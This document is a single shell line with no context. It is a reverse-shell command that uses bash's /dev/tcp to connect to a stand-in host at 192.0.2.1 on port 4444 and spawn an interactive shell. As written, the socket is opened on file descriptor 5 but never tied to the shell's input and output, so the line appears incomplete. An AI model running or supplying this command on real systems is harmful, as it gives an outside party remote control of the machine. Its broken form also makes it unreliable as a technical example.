exec bash -c 'sh -i 5<> /dev/tcp/192.0.2.1/4444'
